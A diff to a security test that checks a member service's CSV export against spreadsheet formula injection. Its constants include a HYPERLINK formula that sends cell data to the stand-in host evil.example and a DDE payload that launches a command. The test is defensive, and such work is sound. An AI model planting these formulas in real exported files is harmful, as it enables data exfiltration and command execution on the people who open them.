@@ -9,10 +9,13 @@ import csv
 import io
 
 from openpyxl import load_workbook
+from sqlalchemy import update
 
 from tests.security.conftest import sqlite_only
 from tests.service.conftest import Api
 from tests.service.test_console_pages import sign_in
+from zengzhi.service.base import Context
+from zengzhi.store import tables as t
 
 LINK = '=HYPERLINK("https://evil.example/?"&C2,"open")'
 DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -20,11 +23,21 @@ PLAIN = "-2+3"  # digits and signs only: nothing a formula could call
 
 
 @sqlite_only  # the files' writing: the database does not matter
-def test_no_exported_text_opens_as_a_formula(api: Api) -> None:
+def test_no_exported_text_opens_as_a_formula(api: Api, context: Context) -> None:
     api.member("m1", name=LINK)
     api.member("m2", name=DDE, phone="+86 138 0000 0002")
     api.member("m3", name=PLAIN)
-    api.member("m4", name="\tTAB")
+    # a name starting with a tab is refused now (a name is one line of visible
+    # characters, test_hostile_fields.py), but one kept before is still exported
+    refused = api.post("/v1/members", {"id": "m4", "name": "\tTAB"})
+    assert (refused.status_code, refused.json()["field"]) == (422, "name")
+    api.member("m4")
+    with context.database.write() as connection:
+        connection.execute(
+            update(t.members)
+            .where(t.members.c.tenant_id == api.tenant, t.members.c.member_id == "m4")
+            .values(name="\tTAB")
+        )
     sign_in(api.client, api.tenant)
 
     exported = api.client.get("/console/members/export.csv", params={"sort": "id"})
